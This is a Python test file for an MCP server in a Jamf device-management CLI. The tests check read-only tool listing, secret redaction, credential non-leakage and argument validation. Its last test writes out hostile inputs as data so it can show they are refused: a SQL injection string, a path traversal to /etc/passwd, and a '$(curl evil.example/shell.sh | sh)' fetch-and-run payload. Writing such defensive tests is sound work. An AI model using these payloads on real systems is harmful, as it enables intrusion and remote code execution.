"""`jamfctl mcp serve`, driven by the official MCP SDK's own client.

Over stdio: one `jamfctl -p sandbox mcp serve` subprocess for the module, reached through the SDK's
`stdio_client` + `ClientSession` (held open in a blocking portal's event loop, so each test is a plain function).
In-process: the SDK's in-memory `Client` against `jamfctl.mcp.server.build(...)` for what a subprocess cannot set
up (an API role lacking a privilege, a token and secret of the test's choosing), and the command body through the
harness (a piped session on stdin, a refused secret, the SDK missing). Plus: no other command imports the SDK.
"""
from __future__ import annotations

import contextlib
import json
import sys
from pathlib import Path

import anyio
import anyio.from_thread
import pytest
from mcp import ClientSession, StdioServerParameters
from mcp.client import Client
from mcp.client.stdio import stdio_client

from jamfctl import specs
from jamfctl.mcp import server as mcp_server
from jamfctl.mcp import tools as mcp_tools
from jamfctl.sandbox import SANDBOX_CLIENT_SECRET, SandboxConfig
from jamfctl.sandbox.app import SandboxApp
from jamfctl.sandbox.transport import SandboxTransport
from support.harness import Harness, RecordingSandbox

JAMFCTL = Path(sys.executable).parent / "jamfctl"
WIFI_PASSWORD = "sandbox-fake-wifi-password"  # the sandbox's Wi-Fi profile payload (jamfctl/sandbox/classic_data.py)
NOT_TOOLS = ("filevault", "laps", "lock_pin", "recovery_lock", "lock", "erase", "restart", "shutdown", "blank_push",
             "renew_mdm", "remove_mdm", "clear_passcode", "lost_mode", "update_inventory", "push", "pull", "enable",
             "disable", "diff", "backup", "api", "token", "login", "logout", "multi")
FORBIDDEN_ARGUMENTS = {"profile", "url", "reveal", "yes", "dry_run", "server", "client_id", "client_secret"}


# --- one server process for the module, one SDK client session ------------------------------------------------
class Session:
    """The SDK's ClientSession, called from plain (synchronous) tests through the portal's event loop."""

    def __init__(self, portal, session: ClientSession, errlog: Path) -> None:
        self.portal, self.session, self.errlog = portal, session, errlog
        self.texts: list[str] = []  # every tool output, for the leak checks at the end

    def call(self, name: str, arguments: dict | None = None):
        result = self.portal.call(self.session.call_tool, name, arguments or {})
        self.texts += [c.text for c in result.content]
        return result

    def tools(self):
        return self.portal.call(self.session.list_tools).tools


@contextlib.asynccontextmanager
async def _connected(params: StdioServerParameters, errlog):
    async with stdio_client(params, errlog=errlog) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()
            yield session


@pytest.fixture(scope="module")
def mcp(tmp_path_factory):
    home = tmp_path_factory.mktemp("mcp-home")
    errlog = home / "server-stderr.txt"
    env = {"HOME": str(home), "JAMFCTL_CONFIG_DIR": str(home / "cfg"), "XDG_CONFIG_HOME": str(home / ".config")}
    params = StdioServerParameters(command=str(JAMFCTL), args=["-p", "sandbox", "mcp", "serve"], env=env)
    with open(errlog, "w") as err, anyio.from_thread.start_blocking_portal() as portal:
        with portal.wrap_async_context_manager(_connected(params, err)) as session:
            yield Session(portal, session, errlog)


def result_json(result):
    assert not result.is_error, result.content[0].text
    return json.loads(result.content[0].text)


def error_json(result) -> dict:
    assert result.is_error
    error = json.loads(result.content[0].text)
    assert set(error) == {"error", "message", "exit_code"} and "Traceback" not in error["message"]
    return error


# --- over stdio, a real subprocess ----------------------------------------------------------------------------
@pytest.mark.slow
def test_the_tools_are_every_nouns_reads_and_nothing_that_writes_or_reveals(mcp):
    listed = {tool.name: tool for tool in mcp.tools()}
    expected = {f"{noun.replace('-', '_')}_{verb}" for noun, kinds in specs.nouns().items()
                for verb in kinds[0].verbs if verb in ("list", "show", "members")}
    assert set(listed) == expected | {"computer_health", "report_security"}
    for name, tool in listed.items():
        assert not any(name.endswith(f"_{word}") or name == word for word in NOT_TOOLS), name
        assert tool.annotations.read_only_hint is True and tool.annotations.destructive_hint is False
        schema = tool.input_schema
        assert schema["additionalProperties"] is False and not FORBIDDEN_ARGUMENTS & set(schema["properties"]), name
        limit = schema["properties"].get("limit") or schema["properties"].get("flagged_limit")
        if name.endswith(("_list", "_members")) or name == "report_security":
            assert limit["maximum"] == mcp_tools.MAX_LIMIT and limit["default"] == mcp_tools.DEFAULT_LIMIT, name
    assert "filter" in listed["computer_list"].input_schema["properties"]
    assert "filter" not in listed["policy_list"].input_schema["properties"]  # Classic: the endpoint cannot
    assert "serial" in listed["computer_show"].input_schema["properties"]


@pytest.mark.slow
def test_computer_list_is_bounded_and_selects_fields(mcp):
    default = mcp.call("computer_list")
    assert len(result_json(default)) == mcp_tools.DEFAULT_LIMIT
    assert "of 500 computers" in default.content[1].text  # says there are more, and how to get them
    two = result_json(mcp.call("computer_list", {"limit": 2, "fields": ["id", "hardware.serialNumber"]}))
    assert [set(r) for r in two] == [{"id", "hardware"}] * 2 and all(r["hardware"]["serialNumber"] for r in two)
    named = result_json(mcp.call("computer_list", {"filter": 'general.name=="IT-MBP-*"', "limit": 5}))
    assert named and all(r["general"]["name"].startswith("IT-MBP-") for r in named)


@pytest.mark.slow
def test_computer_show_by_serial_and_a_classic_policy(mcp):
    first = result_json(mcp.call("computer_list", {"limit": 1, "fields": ["id", "hardware.serialNumber"]}))[0]
    shown = result_json(mcp.call("computer_show", {"serial": first["hardware"]["serialNumber"].lower()}))
    assert shown["id"] == first["id"] and "security" in shown  # show's default sections, as the CLI's
    policy = result_json(mcp.call("policy_show", {"id": 1}))
    assert policy["id"] == 1 and policy["general"]["name"]
    by_name = result_json(mcp.call("policy_show", {"name": policy["general"]["name"]}))
    assert by_name["id"] == 1


@pytest.mark.slow
def test_bad_arguments_are_tool_errors_with_the_clis_message_and_nothing_breaks(mcp):
    cases = {
        ("computer_show", "bad serial!"): "invalid serial number",
        ("computer_list", "profile"): "has no argument 'profile'",
        ("computer_list", "limit"): "expected 1 to 500",
        ("computer_list", "filter"): "invalid filter",
        ("computer_list", "fields"): "unknown field 'nope'",
        ("policy_list", "filter"): "has no argument 'filter'",
        ("computer_show", "two keys"): "give exactly one of serial, id, name",
        ("no_such_tool", ""): "no tool named",
    }
    arguments = {
        ("computer_show", "bad serial!"): {"serial": "bad serial!"},
        ("computer_list", "profile"): {"profile": "prod"},
        ("computer_list", "limit"): {"limit": 100_000},
        ("computer_list", "filter"): {"filter": "general.name==(x"},
        ("computer_list", "fields"): {"fields": ["nope"]},
        ("policy_list", "filter"): {"filter": "name==x"},
        ("computer_show", "two keys"): {"serial": "C02XK1JMJG5H", "id": 3},
        ("no_such_tool", ""): {},
    }
    for (tool, _), said in cases.items():
        error = error_json(mcp.call(tool, arguments[(tool, _)]))
        assert error["exit_code"] == 2 and said in error["message"], (tool, error)
    missing = error_json(mcp.call("computer_show", {"serial": "C02NOTHERE01"}))
    assert missing["exit_code"] == 4 and missing["error"] == "not_found"
    assert result_json(mcp.call("category_list", {"limit": 1}))  # the server is still there


@pytest.mark.slow
def test_secrets_come_back_redacted_and_no_credential_reaches_the_client_or_stderr(mcp):
    profiles = result_json(mcp.call("config_profile_list", {"name": "Wi-Fi*"}))
    wifi = result_json(mcp.call("config_profile_show", {"id": profiles[0]["id"]}))
    text = json.dumps(wifi)
    assert '"Password": "<redacted>"' in text and WIFI_PASSWORD not in text
    health = result_json(mcp.call("computer_health", {"id": 3}))
    assert health[-1]["check"] == "overall" and {row["check"] for row in health} >= {"filevault", "sip"}
    report = result_json(mcp.call("report_security", {"flagged_limit": 3}))
    assert report["summary"]["computers"] == 500 and len(report["flagged"]) == 3
    stderr = mcp.errlog.read_text()
    everything = "\n".join([*mcp.texts, stderr])
    for secret in (SANDBOX_CLIENT_SECRET, WIFI_PASSWORD, "Bearer ", "access_token", "Traceback"):
        assert secret not in everything, secret
    assert "MCP server on stdio" in stderr and "(sandbox)" in stderr  # stderr carries the notes, stdout the protocol


@pytest.mark.slow
@pytest.mark.e2e
def test_over_http_against_sandbox_serve_with_environment_credentials(tmp_path):
    """The installed jamfctl, credentials from JAMF_*, a real HTTP server: the reads reach it, the secret stays home."""
    import re
    import select
    import subprocess

    from jamfctl.sandbox import SANDBOX_CLIENT_ID

    access_log = tmp_path / "access.log"
    keyring_file = tmp_path / "keyring.json"  # the token cache goes to a test keychain, never the real one
    env = {"HOME": str(tmp_path), "JAMFCTL_CONFIG_DIR": str(tmp_path / "cfg"), "PATH": "/usr/bin:/bin",
           "PYTHON_KEYRING_BACKEND": "support.keyrings.FileKeyring", "JAMFCTL_TEST_KEYRING": str(keyring_file),
           "PYTHONPATH": str(Path(__file__).resolve().parent)}
    with open(access_log, "w") as log:
        served = subprocess.Popen([str(JAMFCTL), "sandbox", "serve", "--port", "0", "--computers", "20"],
                                  stdout=subprocess.PIPE, stderr=log, text=True, env=env)
    try:
        assert select.select([served.stdout], [], [], 20)[0], "sandbox serve printed no URL"
        url = served.stdout.readline().strip()
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+", url), url
        creds = {"JAMF_URL": url, "JAMF_CLIENT_ID": SANDBOX_CLIENT_ID, "JAMF_CLIENT_SECRET": SANDBOX_CLIENT_SECRET}
        params = StdioServerParameters(command=str(JAMFCTL), args=["--debug", "mcp", "serve"], env={**env, **creds})
        errlog = tmp_path / "mcp-stderr.txt"
        with open(errlog, "w") as err, anyio.from_thread.start_blocking_portal() as portal:
            with portal.wrap_async_context_manager(_connected(params, err)) as session:
                listed = Session(portal, session, errlog)
                computers = result_json(listed.call("computer_list", {"limit": 3}))
                script = result_json(listed.call("script_show", {"id": 1}))
        assert len(computers) == 3 and script["id"] == "1"  # modern ids are strings, as Jamf sends them
        requests = access_log.read_text()
        assert "/api/v4/computers-inventory" in requests and "/api/v1/scripts/1" in requests
        stderr = errlog.read_text()
        assert f"MCP server on stdio for {url} (environment credentials)" in stderr and "debug:" in stderr
        assert SANDBOX_CLIENT_SECRET not in stderr + "".join(listed.texts) and "Bearer " not in stderr
        cached = keyring_file.read_text() if keyring_file.exists() else ""
        assert SANDBOX_CLIENT_SECRET not in cached  # only a token (keyed by a fingerprint) may be cached there
    finally:
        served.terminate()
        served.wait(timeout=10)
        served.stdout.close()


# --- in-process: the SDK's in-memory client ---------------------------------------------------------------------
TOKEN, SECRET = "tok-mcp-0123456789abcdef", "secret-mcp-9876543210"


class ChosenToken(SandboxApp):
    def new_token(self) -> str:
        return TOKEN


def in_memory_calls(app: SandboxApp, calls: list[tuple[str, dict]]) -> list:
    """The calls' results from the SDK's in-memory Client against the server `mcp serve` builds."""
    from jamfctl.context import AppContext

    context = AppContext(profile="sandbox", transport_factory=lambda: SandboxTransport(app))

    async def main():
        async with Client(mcp_server.build(context.client())) as client:
            return [await client.call_tool(name, args) for name, args in calls]

    try:
        return anyio.run(main)
    finally:
        context.close()


def test_a_403_is_a_tool_error_naming_the_privilege_to_grant():
    app = SandboxApp(SandboxConfig(computers=20, denied_privileges=frozenset({"Read Computers"})))
    denied, allowed = in_memory_calls(app, [("computer_list", {"limit": 1}), ("category_list", {"limit": 1})])
    error = error_json(denied)
    assert error == {**error, "error": "forbidden", "exit_code": 5} and "Read Computers" in error["message"]
    assert result_json(allowed)  # a role lacking one privilege still serves the other tools


def test_a_chosen_token_and_secret_never_appear_in_any_tool_output(monkeypatch):
    import jamfctl.sandbox as sandbox_pkg

    app = ChosenToken(SandboxConfig(computers=20, client_secret=SECRET))
    monkeypatch.setattr(sandbox_pkg, "SANDBOX_CLIENT_SECRET", SECRET)
    calls = [(tool.name, {}) for tool in mcp_tools.tools() if tool.verb == "list"]
    calls += [("computer_show", {"id": 1}), ("config_profile_show", {"id": 1}), ("group_members", {"id": 1}),
              ("computer_health", {"id": 2}), ("report_security", {}), ("computer_show", {"id": 99999})]
    results = in_memory_calls(app, calls)
    texts = [c.text for r in results for c in r.content]
    assert sum(r.is_error for r in results) == 1  # only the missing computer
    assert all(TOKEN not in t and SECRET not in t for t in texts)


def test_an_unexpected_failure_is_a_plain_tool_error_without_its_internals(monkeypatch):
    from jamfctl.mcp import run

    def broken(*args):
        raise RuntimeError("connection to 192.168.1.100 failed at /srv/jamf/db.py with password hunter22")

    monkeypatch.setattr(run, "run", broken)
    failed, = in_memory_calls(SandboxApp(SandboxConfig(computers=20)), [("category_list", {})])
    error = error_json(failed)
    assert error["exit_code"] == 1 and error["message"].startswith("unexpected error (RuntimeError)")
    assert not any(word in failed.content[0].text for word in ("192.168", "/srv", "hunter22", "db.py"))


def test_a_result_larger_than_the_bound_is_refused_not_truncated(monkeypatch):
    monkeypatch.setattr(mcp_tools, "MAX_RESULT_CHARS", 5000)
    big, small = in_memory_calls(SandboxApp(SandboxConfig(computers=20)),
                                 [("computer_list", {"limit": 20}), ("computer_list", {"limit": 1, "fields": ["id"]})])
    assert "larger than 5000 characters" in error_json(big)["message"]
    assert result_json(small) == [{"id": "1"}]


# --- in-process: the command itself ---------------------------------------------------------------------------------
def jsonrpc(*requests: tuple[str, dict]) -> str:
    """A client's side of a whole session, piped: initialize, then each request in turn."""
    init = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "test", "version": "1"}}
    lines = [{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": init},
             {"jsonrpc": "2.0", "method": "notifications/initialized"}]
    lines += [{"jsonrpc": "2.0", "id": i, "method": m, "params": p} for i, (m, p) in enumerate(requests, 1)]
    return "".join(json.dumps(line) + "\n" for line in lines)


@pytest.fixture
def cli(monkeypatch):
    return Harness(monkeypatch)


def test_a_piped_session_gets_every_answer_before_the_server_exits(cli):
    stdin = jsonrpc(("tools/list", {}), ("tools/call", {"name": "computer_list", "arguments": {"limit": 2}}),
                    ("tools/call", {"name": "computer_show", "arguments": {"serial": "nope"}}))
    run = cli.run("-p", "sandbox", "mcp", "serve", stdin=stdin)
    assert run.exit_code == 0, run.stderr
    answers = {m["id"]: m for m in map(json.loads, run.stdout.splitlines())}
    assert sorted(answers) == [0, 1, 2, 3]  # the SDK alone would cancel the calls still running at end of input
    assert len(answers[1]["result"]["tools"]) == len(mcp_tools.tools())
    assert len(json.loads(answers[2]["result"]["content"][0]["text"])) == 2
    assert answers[3]["result"]["isError"] is True
    assert "MCP server on stdio" in run.stderr and "Traceback" not in run.text


def test_a_read_only_profile_and_a_writing_one_offer_the_same_reads(cli):
    def offered(env: dict) -> list[str]:
        run = cli.run("-p", "sandbox", "mcp", "serve", stdin=jsonrpc(("tools/list", {})), env=env)
        assert run.exit_code == 0, run.stderr
        return [tool["name"] for tool in json.loads(run.stdout.splitlines()[1])["result"]["tools"]]

    assert offered({"JAMFCTL_READ_ONLY": "1"}) == offered({"JAMFCTL_READ_ONLY": "0"}) == [
        tool.name for tool in mcp_tools.tools()]


def test_credentials_are_checked_once_at_start_and_a_refused_secret_exits_3(cli):
    app = RecordingSandbox(SandboxConfig(computers=20))
    cli.use_transport(lambda: SandboxTransport(app))
    env = {"JAMF_URL": "https://jamf.example.com", "JAMF_CLIENT_ID": "jamfctl-sandbox",
           "JAMF_CLIENT_SECRET": "not-the-secret-123"}
    refused = cli.run("mcp", "serve", stdin=jsonrpc(("tools/list", {})), env=env)
    assert refused.exit_code == 3 and refused.stdout == "" and "refused the API client credentials" in refused.stderr
    assert [path for _, path, _, _ in app.seen] == ["/api/oauth/token"]
    assert "not-the-secret-123" not in refused.text


def test_without_the_sdk_it_says_how_to_install_it_and_sends_nothing(cli, monkeypatch):
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "mcp" else real(name, *a))
    app = RecordingSandbox(SandboxConfig(computers=20))
    cli.use_transport(lambda: SandboxTransport(app))
    run = cli.run("-p", "sandbox", "mcp", "serve")
    assert run.exit_code == 1 and "pip install 'jamfctl[mcp]'" in run.stderr and app.seen == []


@pytest.mark.parametrize("version", ["1.26.0", "3.0.0"])
def test_an_sdk_of_another_major_version_is_refused_by_name(cli, monkeypatch, version):
    import importlib.metadata

    real = importlib.metadata.version
    monkeypatch.setattr(importlib.metadata, "version", lambda name: version if name == "mcp" else real(name))
    run = cli.run("-p", "sandbox", "mcp", "serve")
    assert run.exit_code == 1 and f"(mcp {version} is installed)" in run.stderr and "--upgrade" in run.stderr


def test_commands_lists_mcp_serve_as_a_read_with_its_tools_privileges(jamfctl):
    rows = {row["command"]: row for row in json.loads(jamfctl("commands", "-o", "json").stdout)}
    row = rows["mcp serve"]
    assert row["writes"] is False and row["reveals"] is False and row["source"] == "declared"
    mirrored = [tool.command for tool in mcp_tools.tools()]
    assert "report security" in mirrored and "computer health" in mirrored
    union = {p for name in mirrored for p in rows[name]["privileges"]}
    assert set(row["privileges"]) == union and "GET /api/v4/computers-inventory" in row["endpoints"]


IN_TURN = """
import json, os, sys
from jamfctl.entry import main
codes = []
for argv in json.loads(os.environ["ARGVS"]):
    try:
        main(argv)
    except SystemExit as exc:
        codes.append(exc.code)
json.dump({"codes": codes, "modules": sorted(sys.modules)}, open(os.environ["OUT"], "w"))
"""


@pytest.mark.slow
def test_no_other_command_imports_the_sdk(tmp_path):
    """--help, --version, help of the mcp group and command, `commands` (which reads the tools' declarations) and a
    listing, in turn in one process: none of them loads the SDK or the HTTP server stack it brings."""
    import os
    import subprocess

    argvs = [["--help"], ["--version"], ["computer", "list", "--help"], ["mcp", "--help"], ["mcp", "serve", "--help"],
             ["-p", "sandbox", "commands", "-o", "json"], ["-p", "sandbox", "computer", "list", "--limit", "1"]]
    env = {k: v for k, v in os.environ.items() if not k.startswith(("JAMF", "PYTHON"))}
    env.update(HOME=str(tmp_path), JAMFCTL_CONFIG_DIR=str(tmp_path / "cfg"), ARGVS=json.dumps(argvs),
               OUT=str(tmp_path / "out.json"))
    done = subprocess.run([sys.executable, "-c", IN_TURN], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    found = json.loads((tmp_path / "out.json").read_text())
    assert found["codes"] == [0] * len(argvs), done.stderr
    sdk = ("mcp", "mcp_types", "starlette", "uvicorn", "sse_starlette", "httpx2")
    assert [m for m in found["modules"] if m.split(".")[0] in sdk] == []
    assert "jamfctl.mcp.tools" in found["modules"]  # `commands` did read the tools (so the check means something)


@pytest.mark.slow
def test_the_secret_fuzz_session_reaches_every_kind_of_tool(monkeypatch):
    """tests/test_secret_fuzz.py pipes MCP_SESSION into every fuzzed `mcp serve`: fault-free, each call is answered,
    and only the two meant to fail fail (so the fuzz looks at real tool outputs, not at a session that broke)."""
    from test_secret_fuzz import CLIENT_ID, MCP_SESSION, URL, FuzzHarness, FuzzSandbox

    cli = FuzzHarness(monkeypatch)
    app = FuzzSandbox(SandboxConfig(computers=20, seed=5, client_id=CLIENT_ID, client_secret=SECRET), TOKEN)
    cli.use_transport(lambda: SandboxTransport(app))
    run = cli.run("mcp", "serve", env={"JAMF_URL": URL, "JAMF_CLIENT_ID": CLIENT_ID, "JAMF_CLIENT_SECRET": SECRET})
    assert run.exit_code == 0, run.stderr
    answers = [json.loads(line) for line in run.stdout.splitlines()]
    calls = answers[2:]
    assert [a["id"] for a in answers] == list(range(len(MCP_SESSION.splitlines()) - 1))
    assert [a["result"]["isError"] for a in calls] == [False] * (len(calls) - 2) + [True, True]
    assert TOKEN not in run.text and SECRET not in run.text


@pytest.mark.parametrize(("name", "arguments", "said"), [
    ("computer_list", {"name": "x" * 256}, "name is too long (256 characters; at most 255)"),
    ("computer_list", {"limit": True}, "limit must be a whole number"),
    ("computer_list", {"limit": 0}, "invalid limit 0"),
    ("computer_list", {"fields": ["id", 3]}, "fields must be a list of at most 50 strings"),
    ("computer_list", {"fields": ["id"] * 51}, "fields must be a list of at most 50 strings"),
    ("computer_list", {"sections": ["NOPE"]}, "section"),
    ("computer_list", {"sort": "general.name:sideways"}, "sort"),
    ("computer_list", ["not", "an", "object"], "arguments must be an object"),
    ("computer_show", {"serial": "'; DROP TABLE computers; --"}, "invalid serial number"),
    ("computer_show", {"id": 2**31}, "id"),
    ("computer_show", {}, "give exactly one of serial, id, name"),
    ("user_show", {"username": "a\x00b"}, "username"),
    ("script_list", {"filter": 'name=="x'}, "filter"),
    ("group_members", {"serial": "C02XK1JMJG5H"}, "has no argument 'serial'"),
    ("computer_health", {"serial": "../../../etc/passwd"}, "invalid serial number"),
    ("report_security", {"filter": "$(curl evil.example/shell.sh | sh)"}, "filter"),
    ("report_security", {"flagged_limit": 501}, "invalid flagged_limit 501"),
])
def test_arguments_are_refused_before_any_request(name, arguments, said):
    """No client at all: a refusal that needed the server would fail here with an AttributeError instead."""
    from jamfctl.errors import UsageError

    with pytest.raises(UsageError) as refused:  # ValidationError among them: exit 2 either way
        mcp_tools.call(None, name, arguments)
    assert said in refused.value.message and refused.value.exit_code == 2
